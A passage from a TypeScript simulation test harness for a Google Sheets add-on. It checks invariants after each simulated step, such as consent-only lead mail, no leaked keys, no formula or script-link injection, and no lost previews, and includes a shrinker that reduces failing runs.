            this.fail('exception', `startPreviewsForSelection: ${(error as Error).message}`);
        }
        return;
      }
      case 'evict':
        this.rt.evictCachesAtRandom(step.fraction, this.at + 1);
        return;
      case 'filter':
        this.list.probe.filterHiding(step.hide);
        return;
      case 'together': {
        // A sidebar poll and a Score at once: the poll pauses at its request and the Score runs.
        this.select(`C1:C${Math.max(2, this.lastRow())}`);
        try {
          this.rt.run('pollPendingPreviews', [], {
            mode: 'sidebar',
            interleave: {
              at: { call: 'UrlFetchApp.fetchAll', nth: 1 },
              run: () => void this.press('scoreSelection', [{ refresh: 'stale' }]),
            },
          });
        } catch (error) {
          this.fail('exception', `pollPendingPreviews: ${(error as Error).message}`);
        }
        return;
      }
      default:
        return;
    }
  }

  /** Addresses that said yes on the form, and each response's row, in order. */
  consenting = new Set<string>();
  responses = 0;
  lastAddress = 'lead0@lead.example';
  watchId: string | null = null;

  /** A lead fills the "free report" form: a row appended, the watchers' triggers fired (T2). */
  formResponse(step: Extract<Step, { kind: 'formResponse' }>): void {
    this.responses++;
    const address =
      step.email === 'again'
        ? this.lastAddress
        : step.email === 'bad'
          ? `lead${this.responses}@`
          : step.email === 'plus'
            ? plusSpelling(this.responses)
            : `lead${this.responses}@lead.example`;
    if (step.email !== 'bad') this.lastAddress = address;
    if (step.consent && step.email !== 'bad') this.consenting.add(address);
    this.rt.submitForm(
      FORM,
      { Website: step.site, Email: address, Consent: step.consent ? 'Yes' : 'No' },
      { events: step.events },
    );
  }

  /** The owner watches the form's sheet (its e-mail and consent columns), or stops. */
  watch(on: boolean): void {
    if (!this.rt.spreadsheet.getSheetByName(FORM)) return;
    if (!on) {
      if (this.watchId) this.press('deleteLeadWatch', [this.watchId]);
      this.watchId = null;
      return;
    }
    const r = this.press('saveLeadWatch', [
      { sheetName: FORM, website: 'Website', email: 'Email', consent: 'Consent', mode: 'preview' },
    ]) as { ok: boolean; view: { watches: Array<{ id: string; mine: boolean }> } } | null;
    if (r?.ok) this.watchId = r.view.watches.find((w) => w.mine)?.id ?? null;
  }

  /**
   * A lead e-mail goes only to an address that said yes, and never twice for one site; with a
   * watch on, after a quiet week, every row of the form's sheet says how it was handled or why
   * it waits.
   */
  leadMailOnly(): void {
    const seen = new Set<string>();
    const days = new Map<string, number[]>();
    for (const m of this.rt.mail.sent) {
      const site = /^Your AI visibility report for (.+)$/.exec(m.subject)?.[1];
      if (!site) continue;
      if (!this.consenting.has(m.to))
        this.fail('lead mailed without consent', `${m.to} for ${site}`);
      const box = mailbox(m.to);
      const key = `${box} ${site}`;
      if (seen.has(key)) this.fail('lead mailed twice', key);
      seen.add(key);
      // No mailbox gets more than PER_ADDRESS_WEEK in any 7 days, however its address is spelled.
      const day = dayNumber(m.at);
      const before = (days.get(box) ?? []).filter((d) => d > day - 7);
      if (before.length >= PER_ADDRESS_WEEK)
        this.fail('mailbox mailed past its week', `${box}: ${before.length + 1} in 7 days`);
      days.set(box, [...before, day]);
    }
  }

  /**
   * The owner's key asks about no preview her key did not make: an ID an editor pasted (the
   * season's start `5eed0000-`) is never polled with it, as the season never adopts one.
   */
  ownPreviewsOnly(): void {
    for (const l of this.rt.fetchStats.log.slice(this.pollsSeen))
      if (l.key === KEY && l.method === 'get' && l.url.includes('5eed0000-'))
        this.fail('owner’s key spent on a pasted ID', l.url.split('?')[1] ?? l.url);
    this.pollsSeen = this.rt.fetchStats.log.length;
  }

  pollsSeen = 0;

  leadsHandled(): void {
    const sheet = this.rt.spreadsheet.getSheetByName(FORM);
    if (!this.watchId || !sheet) return;
    const head = sheet.probe.rows[0]!.map((c) => String(c.value));
    const at = head.indexOf('Lead status');
    // A row that waits says why (a plan that refuses previews, say): only silence is a loss. A
    // response no event delivered (Google lost it) waits for its owner's Accept, which her Leads
    // tab names: silence there is the view's, not a loss.
    const open = sheet.probe.rows.slice(1).filter((r) => String(r[at]?.value ?? '') === '');
    const view = this.press('getLeads') as {
      watches: Array<{ mine: boolean; awaitingYou: number }>;
    } | null;
    const awaiting = view?.watches.find((w) => w.mine)?.awaitingYou ?? 0;
    if (open.length > awaiting)
      this.fail(
        'lead not handled',
        `${open.length} rows of "${FORM}", the first: ${open[0]!.map((c) => String(c.value)).join(' | ')}`,
      );
  }

  /** Every invariant, after every step. */
  check(): void {
    this.checks++;
    this.userCells();
    this.headersOnce();
    this.historyOnce();
    this.keyNowhere();
    this.completedScores();
    this.previewOnce();
    this.nothingAsFormula();
    this.triggersAndLimits();
    this.ownKeysOnly();
    this.ownPreviewsOnly();
    this.othersUntouched();
    this.leadMailOnly();
    const views = this.savedAt.size
      ? ((this.press('getSchedules') as ScheduleView[] | null) ?? [])
      : [];
    this.schedulesOnTheirDay(views);
    this.oneDeckPerReport(views);
  }

  /** A report schedule's deck, by schedule and brand: the first link each was given. */
  decks = new Map<string, string>();

  /**
   * A Send report schedule redraws one deck: its link never changes while its brand does not
   * (the season deletes no deck), and no deck is made that no schedule holds.
   */
  oneDeckPerReport(views: ScheduleView[]): void {
    for (const v of views) {
      if (!v.mine || !v.deckUrl) continue;
      const key = `${v.id} ${v.report?.site ?? ''}`;
      const first = this.decks.get(key) ?? v.deckUrl;
      this.decks.set(key, first);
      if (first !== v.deckUrl) this.fail('deck replaced', `${key}: ${first}, now ${v.deckUrl}`);
    }
    if (this.rt.slides.decks.size > this.decks.size)
      this.fail(
        'deck replaced',
        `${this.rt.slides.decks.size} decks for ${this.decks.size} reports`,
      );
  }

  /** Nothing the service sends becomes a formula or a script link (the season types none). */
  nothingAsFormula(): void {
    for (const sheet of this.rt.spreadsheet.sheets)
      sheet.probe.rows.forEach((row, r) =>
        row.forEach((c, k) => {
          const where = `${sheet.getName()} row ${r + 1} column ${k + 1}`;
          if (c.formula) this.fail('formula from the service', `${where}: ${c.formula}`);
          else if (/^\s*(javascript|data):/i.test(String(c.value ?? '')))
            this.fail('formula from the service', `${where}: ${String(c.value)}`);
        }),
      );
  }

  /**
   * A trigger's failure is an exception no one sees: a violation, as from the sidebar. No
   * execution runs past its limit (E2), triggers stay within their daily run time (Q2) and the
   * add-on's own URL fetches within the day's quota (Q1).
   */
  triggersAndLimits(): void {
    for (const line of this.rt.logs.slice(this.logsSeen)) {
      if (!line.startsWith('[trigger ')) continue;
      const limit = /too much computer time|Exceeded maximum execution time/.test(line);
      this.fail(limit ? 'limit exceeded' : 'exception', line);
    }
    this.logsSeen = this.rt.logs.length;
    for (const [day, used] of Object.entries(this.rt.fetchStats.perDay))
      if (used - (this.spentElsewhere.get(day) ?? 0) > 20000)
        this.fail('limit exceeded', `${day}: ${used} URL fetches`);
  }

  lastSilent = -Infinity;

  backgroundSilenced(): boolean {
    const owner = this.rt.owner;
    const mine = this.rt.triggers.list.filter((t) => t.user === owner);
    return (
      mine.some((t) => t.stopped) ||
      !this.rt.grantedScopes(owner).includes('https://www.googleapis.com/auth/script.scriptapp')
    );
  }

  /**
   * Every schedule runs on its day or says why: two hours after its hour (the hourly trigger has
   * fired since), a schedule saved before that hour and not paused has run since it, or its
   * last result says why it waits (another run was writing, or it continues next hour).
   */
  schedulesOnTheirDay(views: ScheduleView[]): void {
    // Google fires nothing while the trigger is stopped (A3) or the person has not granted
    // background runs (A4): a sidebar poll notices the one, Settings says the other. What fell
    // due meanwhile runs within two hours of the trigger's coming back.
    if (this.backgroundSilenced()) this.lastSilent = this.rt.clock.now();
    if (this.rt.clock.now() - this.lastSilent < 2 * 60 * MINUTE) return;
    const zone = this.rt.spreadsheet.timeZone;
    for (const v of views) {
      const saved = this.savedAt.get(v.id);
      if (!v.mine || v.paused || saved === undefined) continue;
      const due = lastWallHour(v.hour, zone, this.rt.clock.now() - 2 * 60 * MINUTE);
      if (due === null || due < saved) continue;
      const ran = v.lastRun !== null && Date.parse(v.lastRun) >= due;
      if (!ran && !/^(busy|continuing)/.test(v.lastResult ?? ''))
        this.fail(
          'schedule missed',
          `${v.id} (${v.hour}:00 ${zone}) due ${new Date(due).toISOString()}, last run ${v.lastRun}: ${v.lastResult}`,
        );
    }
  }

  /**
   * No row gets a second preview while its first is pending or complete (a failed one may be
   * sent again: that is Retry). A re-send after a dropped connection is the one exception, and
   * only while drops were injected.
   */
  previewOnce(): void {
    for (const row of this.listRows()) {
      const key = text(row.cell('Id'));
      const now = {
        uuid: text(row.cell('Preview UUID')),
        status: text(row.cell('Preview status')),
      };
      const before = this.previews.get(key);
      if (
        before &&
        now.uuid &&
        before.uuid !== now.uuid &&
        (before.status === 'pending' || before.status === 'complete') &&
        !this.dropsEver
      )
        this.fail('preview twice', `${key}: ${before.uuid} (${before.status}) then ${now.uuid}`);
      if (key && now.uuid) this.previews.set(key, now);
    }
  }

  /**
   * Nothing lost: every preview the service made is in a row of the list, unless the person let
   * it go (deleted its row, typed over its UUID) or a dropped connection hid the answer. Then, at
   * the step it went missing, a row of its site said why: it held the preview sent again, or said
   * it got no answer. Checked after every step, so the step that lost one is the one named.
   */
  async nothingLost(): Promise<void> {
    const answer = await this.emu.control('previews');
    const domains = answer.domains as Record<string, string>;
    // A lead watch's previews are in the form's sheet.
    const rows = this.listRows([...this.listNames, FORM]);
    const kept = new Set(rows.map((row) => text(row.cell('Preview UUID'))));
    const saysWhy = (domain: string) =>
      rows.some((row) => {
        const site = parseWebsite(row.cell('Website'));
        if (!site.ok || site.domain !== domain) return false;
        return text(row.cell('Preview UUID')) !== '' || text(row.cell('Preview status')) !== '';
      });
    for (const uuid of answer.uuids as string[]) {
      if (kept.has(uuid) || this.letGo.has(uuid) || this.explained.has(uuid)) continue;
      if (this.dropsEver && saysWhy(domains[uuid] ?? '')) this.explained.add(uuid);
      else
        this.fail(
          'preview lost',
          `${uuid} (${domains[uuid]}) is in no row, and no row of its site says why`,
        );
    }
  }

  /** No user cell changes, wherever sorting moved its row. */
  userCells(): void {
    const seen = new Set<string>();
    for (const row of this.listRows()) {
      const key = text(row.cell('Id'));
      if (!key) {
        if (text(row.cell('Website'))) this.fail('user cell', `${row.where}: a website with no Id`);
        continue;
      }
      const want = this.model.get(key);
      const got = { company: text(row.cell('Company')), website: text(row.cell('Website')) };
      if (!want || seen.has(key))
        this.fail('user cell', `${row.where}: ${key} should not be there`);
      else if (want.company !== got.company || want.website !== got.website)
        this.fail('user cell', `${key}: ${JSON.stringify(got)} is not ${JSON.stringify(want)}`);
      seen.add(key);
    }
    for (const key of this.model.keys())
      if (!seen.has(key)) this.fail('user cell', `${key} was lost`);
  }

  /** Each product header at most once per sheet. */
  headersOnce(): void {
    for (const sheet of this.rt.spreadsheet.sheets) {
      const heads = (sheet.probe.rows[0] ?? []).map((c) => String(c.value)).filter(Boolean);
      const twice = heads.filter((h, i) => heads.indexOf(h) !== i);
      if (twice.length) this.fail('header twice', `${sheet.getName()}: ${twice.join(', ')}`);
    }
  }

  /** No reading twice in Score history. */
  historyOnce(): void {
    const history = this.rt.spreadsheet.sheets.find((s) => s.getName() === 'Score history');
    if (!history) return;
    const head = history.probe.rows[0]!.map((c) => String(c.value));
    const keys = Object.keys(HISTORY_HEADERS) as HistoryKey[];
    const seen = new Set<string>();
    history.probe.rows.slice(1).forEach((row, i) => {
      const reading: HistoryReading = {};
      for (const k of keys) {
        const col = head.indexOf(HISTORY_HEADERS[k]);
        if (col >= 0) reading[k] = row[col]?.value as string;
      }
      const key = readingKey(reading);
      if (seen.has(key)) this.fail('reading twice', `Score history row ${i + 2}: ${key}`);
      seen.add(key);
    });
  }

  /** The key and the webhook's secret nowhere but the user's properties. */
  keyNowhere(): void {
    for (const secret of [KEY, TEAM.ben.key, WEBHOOK_SECRET]) {
      const what = secret === WEBHOOK_SECRET ? 'webhook leaked' : 'key leaked';
      for (const sheet of this.rt.spreadsheet.sheets)
        for (const row of sheet.probe.rows)
          for (const c of row)
            if ([c.value, c.formula, c.note].some((v) => String(v ?? '').includes(secret)))
              this.fail(what, `a cell of ${sheet.getName()}`);
      if (this.rt.logs.some((l) => l.includes(secret))) this.fail(what, 'the log');
      if (JSON.stringify(this.rt.documentProps.data).includes(secret))
        this.fail(what, 'document properties');
      if (this.rt.mail.sent.some((m) => JSON.stringify(m).includes(secret)))
        this.fail(what, 'an e-mail');
    }
  }

  /** Every completed preview's score reached its row. */
  completedScores(): void {
    for (const row of this.listRows())
      if (
        row.cell('Preview status') === 'complete' &&
        typeof row.cell('Preview scan score') !== 'number'
      )
        this.fail('score lost', `${row.where} is complete with no Preview scan score`);
  }

  /**
   * After a quiet week with faults off, the key right and every permission granted, the person
   * opening the sidebar once a day (which is when a trigger Google stopped firing can be noticed,
   * A3): nothing pending.
   */
  async quietWeek(): Promise<void> {
    this.at = -1;
    // A week of everyone's triggers and looks: no one person's run to hold to account.
    this.actor = null;
    await this.emu.faults({});
    this.press('saveSettings', [{ apiKey: KEY }]);
    this.rt.grantAllScopes(this.rt.owner);
    for (let h = 0; h < 7 * 24; h += 6) {
      if (h % 24 === 0) {
        this.select('A1');
        this.press('pollPendingPreviews');
        for (const { email } of Object.values(TEAM)) this.pressAs(email, 'pollPendingPreviews');
      }
      await this.elapse(6 * 60 * MINUTE);
    }
    // A uuid pasted that no one's key made says so on its row ("not a preview made with your
    // key"): it waits for a person, not for the add-on.
    const pending = this.listRows().filter(
      (row) =>
        row.cell('Preview status') === 'pending' &&
        !String(row.cell('Preview message') ?? '').startsWith('not a preview made with your key'),
    );
    if (pending.length)
      this.fail(
        'pending after a quiet week',
        `${pending.length} row${pending.length === 1 ? '' : 's'}, ${pending[0]!.where} first (${['Website', 'Preview UUID', 'Requested by', 'Preview message'].map((h) => `${h}: ${String(pending[0]!.cell(h) ?? '')}`).join('; ')})`,
      );
    await this.nothingLost();
    this.leadsHandled();
    this.check();
  }
}

/**
 * Runs `steps` (a season's, or a replay's) and checks every invariant after each. `plant`, for
 * the tests that show an invariant can fail, breaks something after each step.
 */
export async function runSteps(
  seed: number,
  steps: Step[],
  plant?: (rt: GasRuntime) => void,
): Promise<SeasonResult> {
  const s = new Season();
  await s.open(seed);
  try {
    for (let i = 0; i < steps.length; i++) {
      s.at = i;
      s.beforeStep(steps[i]!);
      await s.apply(steps[i]!);
      plant?.(s.rt);
      s.check();
      await s.nothingLost();
      if (s.violations.length) break;
    }
    if (!s.violations.length) await s.quietWeek();
  } finally {
    await s.close();
  }
  return { seed, steps, violations: s.violations, checks: s.checks };
}

/**
 * The fewest steps that still fail the same way, found in halves first: runs of steps (half the
 * season, then a quarter, down to single steps) are dropped and kept out when the season still
 * fails with the same kind of violation. Stops at `deadlineMs` with the shortest found so far.
 */
export async function shrink(result: SeasonResult, deadlineMs = 60_000): Promise<SeasonResult> {
  const kind = result.violations[0]?.kind;
  if (!kind) return result;
  const stopAt = Date.now() + deadlineMs;
  let best = result;
  const failedAt = result.violations[0]!.step;
  let steps = failedAt >= 0 ? result.steps.slice(0, failedAt + 1) : result.steps;
  for (
    let size = Math.ceil(steps.length / 2);
    size >= 1;
    size = size === 1 ? 0 : Math.ceil(size / 2)
  )
    for (let from = steps.length - size; from >= 0 && Date.now() < stopAt; from -= size) {
      const fewer = [...steps.slice(0, from), ...steps.slice(from + size)];
      if (!fewer.length) continue;
      const tried = await runSteps(result.seed, fewer);
      if (tried.violations[0]?.kind === kind) {
        steps = fewer;
        best = tried;
      }
    }
  return best;
}
